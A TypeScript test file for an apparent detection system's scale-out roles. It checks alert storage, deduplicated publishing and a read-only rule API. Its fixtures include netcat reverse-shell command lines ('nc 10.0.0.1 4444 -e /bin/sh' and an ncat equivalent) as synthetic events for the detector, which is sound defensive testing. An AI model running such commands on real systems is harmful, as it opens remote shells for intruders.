// Detection of the scale-out roles in one process: the worker's stage raises the built-in netcat rule's
// alert, stores it and publishes it with its id as message id; a replayed batch stores nothing new but
// publishes the same ids again (JetStream drops the repeats); a failed publish fails the stage (so the
// batch is redelivered); the API's rule service lists the directory rules and refuses every change.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pino } from 'pino';
import { buildEvent, createBuildContext } from '../../src/agent/events.ts';
import { ProcessCache } from '../../src/agent/process-cache.ts';
import type { Bus, BusMessage } from '../../src/bus/types.ts';
import { alertId } from '../../src/detect/alerts.ts';
import type { VigilEvent } from '../../src/schema/event.ts';
import { apiRules, storeAndPublishSink, workerDetection } from '../../src/server/role-detection.ts';
import { SqliteAlertStore } from '../../src/stores/alerts/sqlite.ts';
import type { StoredAlert } from '../../src/stores/alerts/types.ts';

const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001';
const log = pino({ level: 'silent' });

let dir: string;
let store: SqliteAlertStore;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-role-detect-'));
  store = new SqliteAlertStore(join(dir, 'alerts.db'));
  await store.migrate();
});

after(async () => {
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

function processStarts(executable: string, args: string[], count: number): VigilEvent[] {
  const ctx = createBuildContext({
    hostId: 'host-1', agent: { id: 'host-1', hostname: 'h', tenantId: 'acme', version: 'test' },
    host: { os: { platform: 'linux', kernel: 'test' } }, cache: new ProcessCache('host-1', { maxEntries: 100 }),
  });
  const now = Date.now();
  return Array.from({ length: count }, (_, i) => buildEvent({
    type: 'process_start', timeMs: now, pid: 100 + i, ppid: 1, uid: 0, startTimeMs: now, executable, args, cwd: '/',
  }, ctx));
}

function recordingBus(fail = false): Bus<StoredAlert> & { published: BusMessage<StoredAlert>[] } {
  const published: BusMessage<StoredAlert>[] = [];
  return {
    published,
    async publish(m) {
      if (fail) throw new Error('bus unavailable');
      published.push(m);
    },
    consume: () => { throw new Error('not used'); },
    close: async () => {},
  };
}

test('worker stage: stores and publishes each alert; a replayed batch adds nothing to the store and republishes the same ids', async () => {
  const bus = recordingBus();
  const { stage } = workerDetection(storeAndPublishSink(store, bus), { log, ruleDirs: [] });
  assert.equal(stage.required, true);
  const shells = processStarts('/usr/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'], 2);
  const batch = [...processStarts('/usr/bin/ls', ['ls', '-l'], 3), ...shells];
  const expected = shells.map((e) => alertId(NETCAT_RULE, [e.event.id])).sort();

  await stage.process(batch);
  assert.deepEqual(bus.published.map((m) => m.id).sort(), expected);
  assert.ok(bus.published.every((m) => m.subject === 'alerts.acme' && m.payload.status === 'open'));

  await stage.process(batch); // redelivered after a crash between the store write and the ack
  assert.deepEqual(bus.published.map((m) => m.id).sort(), [...expected, ...expected].sort(), 'same message ids again');
  const stored = (await store.list({ tenantId: 'acme', ruleId: NETCAT_RULE, limit: 10 })).alerts.map((a) => a.id).sort();
  assert.deepEqual(stored, expected, 'one row per alert');
});

test('worker stage: a failed publish fails the stage, so the batch is redelivered', async () => {
  const { stage } = workerDetection(storeAndPublishSink(store, recordingBus(true)), { log, ruleDirs: [] });
  await assert.rejects(stage.process(processStarts('/usr/bin/ncat', ['ncat', '-e', '/bin/bash', 'x', '1'], 1)), /bus unavailable/);
});

test('API rules: the directory rules, read-only', () => {
  const rules = apiRules({ log, ruleDirs: [] });
  assert.ok(rules.list().some((r) => r.id === NETCAT_RULE));
  const refused = rules.add('title: x');
  assert.equal(refused.ok, false);
  assert.equal(!refused.ok && refused.status, 'read_only');
  assert.equal(rules.delete(NETCAT_RULE).ok, false);
  assert.throws(() => rules.setEnabled(NETCAT_RULE, false), (err: Error & { statusCode?: number }) => err.statusCode === 409);
  assert.equal(rules.list().find((r) => r.id === NETCAT_RULE)?.enabled, true);
});
